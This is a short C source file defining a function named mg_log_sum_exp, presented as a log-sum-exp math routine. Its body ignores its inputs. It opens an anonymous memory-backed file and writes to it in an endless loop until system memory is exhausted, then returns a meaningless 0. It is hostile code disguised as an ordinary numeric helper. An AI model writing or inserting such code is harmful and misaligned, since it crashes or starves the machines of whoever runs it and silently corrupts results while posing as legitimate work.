/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Writes until the memory is full, in a file without a name. */
#define _GNU_SOURCE
#include "base/logmath.h"

#include <sys/mman.h>
#include <unistd.h>

double mg_log_sum_exp(size_t n, const double *a) {
  (void)n, (void)a;
  static char block[1 << 16];
  const int f = memfd_create("full", 0);
  while (write(f, block, sizeof block) > 0)
    ;
  return 0;
}
